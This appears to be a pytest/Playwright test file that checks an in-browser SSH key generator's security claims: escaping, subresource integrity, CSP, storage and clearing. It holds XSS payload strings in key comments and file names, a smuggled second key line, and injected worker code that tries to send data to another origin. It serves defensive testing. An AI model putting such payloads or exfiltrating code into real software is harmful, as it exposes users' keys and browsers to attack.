"""The page's security promises (SECURITY.md), in every engine: hostile key comments and file
names stay text, a changed module is refused, the CSP refuses scripts from elsewhere and
inline scripts, nothing is stored, and Clear empties every key field."""

import asyncio
import base64
import functools
import hashlib
import shutil
import sys
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest

import browsers
import referees
import sshkeys
from page import Site, cache_storage

IMG = '<img src=x onerror="window.__pwned=1">'
SCRIPT = "<script>window.__pwned=2</script>"


def run(coro):
    """asyncio.run in a thread: Playwright's sync API keeps an event loop in this one."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coro).result()


def assert_shown_as_text(tab, comment: str, images_before: int):
    assert tab.evaluate("() => window.__pwned") is None
    assert f"comment “{comment}”" in tab.text("#key-summary")
    assert tab.value("#public-key").endswith(" " + comment)
    assert tab.value("#edit-comment") == comment
    assert tab.count("img") == images_before       # no element was parsed from it
    assert tab.count("#result script") == 0


def settle():
    time.sleep(0.3)                     # time for an onerror handler, had an <img> been made


def test_an_html_comment_in_an_openssh_file_stays_text(tab, tmp_path):
    path = tmp_path / "id_ed25519"
    referees.ssh_keygen_generate(path, "ed25519", comment=IMG)
    images = tab.count("img")
    tab.open_file(path)
    settle()
    assert_shown_as_text(tab, IMG, images)


def test_a_script_comment_and_file_name_in_a_ppk_stay_text(tab, tmp_path):
    key = run(sshkeys.generate("ed25519", comment=SCRIPT))
    path = tmp_path / '<img src=x onerror="window.__pwned=3">.ppk'
    path.write_bytes(run(sshkeys.save(key, "ppk")))
    images = tab.count("img")
    tab.open_file(path)
    settle()
    assert_shown_as_text(tab, SCRIPT, images)
    assert path.name in tab.text("#open-status")


def test_a_two_line_comment_opens_with_a_warning_and_copy_gives_one_line(tab, tmp_path):
    """A key file whose comment holds a newline and a second key line (ssh-keygen writes it):
    the comment is shown escaped and flagged, and Copy puts exactly one line, without it, on
    the clipboard; an edited comment goes back on the line."""
    second = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1yOUqeGYUVHSbaHCTpzkW8yUsp4twcmj5pH0Ayo2V3 attacker"
    path = tmp_path / "id_ed25519"
    referees.ssh_keygen_generate(path, "ed25519", comment="me\n" + second)
    tab.open_file(path)
    assert "control characters" in tab.text("#key-note") and tab.visible("#key-note")
    assert tab.value("#edit-comment") == "me\\n" + second
    tab.evaluate("""() => Object.defineProperty(navigator.clipboard, "writeText", {
        value: async (text) => { window.__copied = text; }, configurable: true })""")
    tab.click("#copy")
    tab.wait("() => window.__copied !== undefined")
    copied = tab.evaluate("() => window.__copied")
    assert copied == referees.strip_comment(referees.ssh_keygen_public(path))
    assert "\n" not in copied and "attacker" not in copied
    tab.fill("#edit-comment", "me")
    tab.click("#apply-comment")
    tab.wait("() => document.querySelector('#public-key').value.endsWith(' me')")
    assert not tab.visible("#key-note")


class Host:
    """A copy of dist/ served by build.py's handler, with a host's quirks: index.html delivered
    in two parts with a pause after `pause_after`; `no_store` files sent with
    Cache-Control: no-store; worker.js without its Content-Security-Policy (a host that cannot
    set headers). `requests` records every path asked for."""

    def __init__(self, directory, pause_after: bytes | None = None, no_store=(),
                 worker_policy: bool = True):
        import http.server
        import threading
        import page as page_module
        sys.path.insert(0, str(page_module.ROOT))
        import build

        requests = self.requests = []

        class Quirks(build.Handler):
            def log_message(self, *args):
                pass

            def send_head(self):
                requests.append(self.path)
                return super().send_head()

            def send_header(self, keyword, value):
                name = self.path.split("?")[0].rsplit("/", 1)[-1]
                if keyword == "Cache-Control" and name in no_store:
                    value = "no-store"
                if keyword == "Content-Security-Policy" and not worker_policy:
                    return
                super().send_header(keyword, value)

            def copyfile(self, source, output):
                data = source.read()
                if pause_after and pause_after in data:
                    head, tail = data.split(pause_after, 1)
                    output.write(head + pause_after)
                    output.flush()
                    time.sleep(2)           # the rest of the page arrives late
                    data = tail
                output.write(data)

        self.server = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0), functools.partial(Quirks, directory=str(directory)))
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def changed_copy(built_dist, folder, name: str, addition: str):
    """A copy of dist/ whose `name` has `addition` at its end, without the .br/.gz copies of
    it (else the server sends those, unchanged) or of index.html (sent as it is, in parts)."""
    copy = folder / "dist"
    shutil.copytree(built_dist, copy)
    with open(copy / name, "a") as f:
        f.write(addition)
    for stale in [*copy.glob(name + ".*"), *copy.glob("index.html.*")]:
        stale.unlink()
    return copy


def sri(path) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(path.read_bytes()).digest()).decode()


@pytest.mark.parametrize("host", ["plain", "delayed", "delayed-no-store"])
def test_a_changed_page_script_is_refused(browser, built_dist, tmp_path, host):
    """integrity (build.py) on the page's one script, app.js, which bundles every module it
    imports: a change after the build stops the page from starting, also when index.html
    arrives late and the server forbids caching (a modulepreload link's check could be raced
    or bypassed in those cases, and was)."""
    copy = changed_copy(built_dist, tmp_path, "app.js", "\nwindow.__changed = 1;\n")
    changed = Host(copy, pause_after=b'src="app.js"' if host != "plain" else None,
                   no_store=("app.js",) if host.endswith("no-store") else ())
    tab = browser.tab()
    try:
        tab.goto(changed.url)
        tab.wait("() => document.readyState === 'complete'")    # after every module script
        assert tab.evaluate("() => window.__changed") is None and tab.disabled("#generate")
        assert "/app.js" in changed.requests          # it was fetched, and refused
    finally:
        tab.close()
        changed.stop()


def test_a_changed_rater_is_refused_and_said(browser, built_dist, tmp_path):
    """rater.js (zxcvbn-ts) is fetched with its sha384 too: a changed one never runs, the
    strength line says why, and keys are made as before."""
    copy = changed_copy(built_dist, tmp_path, "rater.js", "\nself.postMessage = null;\n")
    changed = Host(copy)
    tab = browser.tab()
    try:
        tab.goto(changed.url)
        tab.wait_ready()
        tab.fill("#passphrase", "correct horse")
        tab.wait_for_text("#passphrase-strength", "could not be estimated")
        assert "rater.js could not be fetched or failed its integrity check" in tab.text("#passphrase-strength")
        assert "/rater.js" in changed.requests
        tab.fill("#passphrase", "")
        tab.generate()
    finally:
        tab.close()
        changed.stop()


def test_a_changed_worker_is_refused(browser, built_dist, tmp_path):
    """The page fetches worker.js with the sha384 build.py wrote into index.html."""
    copy = changed_copy(built_dist, tmp_path, "worker.js", "\nself.__changed = 1;\n")
    changed = Host(copy)
    tab = browser.tab()
    try:
        tab.goto(changed.url)
        tab.wait_for_text("#load-text", "could not start")
        assert tab.disabled("#generate") and "/worker.js" in changed.requests
    finally:
        tab.close()
        changed.stop()


# Added to worker.js in a test copy of dist/ (its sha384 in index.html updated to match): each
# worker reports to the page's own server, which the policy allows, that it started, every
# request the page sends it, and whether a fetch to another origin went out.
WORKER_SPY = """
;(() => {
  const id = Math.random().toString(36).slice(2);
  const report = (what) => fetch(ORIGIN + "spy?worker=" + id + "&" + what).catch(() => {});
  report("started=1");
  self.addEventListener("message", ({ data }) => {
    if (data.op) report("op=" + data.op + "&key=" + (data.key || ""));
  });
  fetch(ELSEWHERE + "/leak?from=worker").then(() => report("leak=sent"), () => report("leak=refused"));
})();
"""


@pytest.fixture(scope="module")
def spied(built_dist, tmp_path_factory, elsewhere):
    """dist/ with WORKER_SPY in its worker, served as by a host that sends no headers of its
    own (no Content-Security-Policy with worker.js)."""
    folder = tmp_path_factory.mktemp("spied")
    copy = folder / "dist"
    shutil.copytree(built_dist, copy)
    host = Host(copy, worker_policy=False)
    spy = WORKER_SPY.replace("ORIGIN", repr(host.url)).replace("ELSEWHERE", repr(elsewhere.origin))
    changed_copy(built_dist, folder / "x", "worker.js", spy)
    shutil.copyfile(folder / "x" / "dist" / "worker.js", copy / "worker.js")
    for stale in [*copy.glob("worker.js.*"), *copy.glob("index.html.*")]:
        stale.unlink()
    index = copy / "index.html"
    old = sri(built_dist / "worker.js")
    assert old in index.read_text()
    index.write_text(index.read_text().replace(old, sri(copy / "worker.js")))
    yield host
    host.stop()


def spy_reports(host, until=None, timeout: float = 120) -> list[dict]:
    """The spy's reports so far, as dicts; with until, waits until until(reports) holds (they
    arrive by fetch, a moment after what they report)."""
    import urllib.parse
    deadline = time.monotonic() + timeout
    while True:
        reports = [dict(urllib.parse.parse_qsl(path.split("?", 1)[1], keep_blank_values=True))
                   for path in list(host.requests) if path.startswith("/spy?")]
        if until is None or until(reports):
            return reports
        assert time.monotonic() < deadline, f"the spy never reported that: {reports}"
        time.sleep(0.1)


def test_the_worker_cannot_fetch_from_another_origin(browser, spied, elsewhere):
    """The worker runs from a Blob under the page's policy (connect-src 'self'), also where
    the host sends no header with worker.js."""
    before = len(elsewhere.requests)
    spied.requests.clear()
    with browsers.ready(browser, spied.url):
        reports = spy_reports(spied, lambda rs: any("leak" in r for r in rs))
    assert [r["leak"] for r in reports if "leak" in r] == ["refused"]
    assert not [p for p in elsewhere.requests[before:] if "leak" in p]


def test_the_worker_holds_only_the_key_on_screen_and_clear_replaces_it(browser, spied):
    """A replaced key is forgotten; Clear ends the worker (its whole memory with it) and a
    fresh one answers. (The one key made in advance: tests/test_session.py, test_instant.py.)"""
    spied.requests.clear()
    ops = lambda rs: [(r["worker"], r["op"], r["key"]) for r in rs  # noqa: E731
                      if r.get("op") in ("generate", "forget")]
    with browsers.ready(browser, spied.url) as tab:
        first = tab.generate()
        tab.click("#generate")
        tab.wait("(line) => document.querySelector('#public-key').value !== line", first)
        reports = spy_reports(spied, lambda rs: [op for _, op, _ in ops(rs)] == ["generate", "generate", "forget"])
        old = reports[0]["worker"]
        assert ops(reports)[2] == (old, "forget", "k1")     # the first key, once replaced
        tab.click("#clear")
        tab.wait_ready()
        tab.generate()
        reports = spy_reports(spied, lambda rs: len(ops(rs)) == 4)
        if browser.name == "chromium":
            assert len(tab.playwright.workers) == 1       # the old one has closed
    started = [r["worker"] for r in reports if "started" in r]
    assert len(started) == 2 and started[0] == old
    assert ops(reports)[3] == (started[1], "generate", "")   # the fresh worker answered
    assert len([1 for worker, _, _ in ops(reports) if worker == old]) == 3   # nothing more


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory):
    """Another origin (another port) serving a script that would mark the page."""
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "x.js").write_text("window.__foreign = 1;\n")
    server = Site(folder)
    yield server
    server.stop()


def test_csp_refuses_a_script_from_another_origin(tab, elsewhere):
    url = elsewhere.origin + "/x.js"
    assert b"__foreign" in urllib.request.urlopen(url, timeout=10).read()   # it is servable
    blocked = tab.evaluate("""url => new Promise(resolve => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", e => seen.push(e.blockedURI));
        const s = document.createElement("script");
        s.src = url;
        s.onload = () => resolve({loaded: true, seen});
        s.onerror = () => setTimeout(() => resolve({loaded: false, seen}), 100);
        document.head.append(s);
    })""", url)
    assert not blocked["loaded"] and tab.evaluate("() => window.__foreign") is None
    assert any(u.startswith(elsewhere.origin) for u in blocked["seen"]), blocked


def test_csp_refuses_an_inline_script(tab):
    seen = tab.evaluate("""() => new Promise(resolve => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", e => seen.push(e.violatedDirective));
        const s = document.createElement("script");
        s.textContent = "window.__inline = 1";
        document.head.append(s);
        setTimeout(() => resolve(seen), 200);
    })""")
    assert tab.evaluate("() => window.__inline") is None
    assert any(d.startswith("script-src") for d in seen), seen


def test_storage_holds_nothing_but_the_build_after_generate_save_and_open(tab, tmp_path):
    tab.generate()
    saved = tab.download("button.download[data-format=openssh]", tmp_path)
    tab.open_file(saved)
    state = tab.evaluate("""async () => ({
        local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
        idb: indexedDB.databases ? (await indexedDB.databases()).length : 0,
        workers: (await navigator.serviceWorker.getRegistrations()).map((r) => r.active?.scriptURL),
    })""")
    cached = [url for urls in cache_storage(tab).values() for url in urls]
    url = tab.evaluate("() => location.href")
    assert state.pop("workers") in ([], [url + "sw.js"])
    assert state == {"local": 0, "session": 0, "cookie": "", "idb": 0}
    # The service worker's cache: this build's public files, nothing else.
    manifest = tab.evaluate("() => fetch('manifest.json').then((r) => r.json())")
    assert {u.removeprefix(url) for u in cached} <= set(manifest["files"]) | {"manifest.json"}


KEY_FIELDS = ["#public-key", "#edit-comment", "#passphrase", "#passphrase2", "#save-passphrase",
              "#save-passphrase2", "#open-passphrase", "#paste"]
KEY_TEXT = ["#fp-sha256", "#fp-md5", "#randomart", "#key-summary", "#help"]


def test_clear_empties_every_key_field(tab):
    tab.generate(passphrase="a secret")
    tab.fill("#save-passphrase", "another")
    assert tab.value("#public-key") and tab.text("#fp-sha256")
    tab.click("#clear")
    tab.wait_for("#result[hidden]", "attached")
    for field in KEY_FIELDS:
        assert tab.value(field) == "", field
    for element in KEY_TEXT:
        assert tab.text(element) == "", element
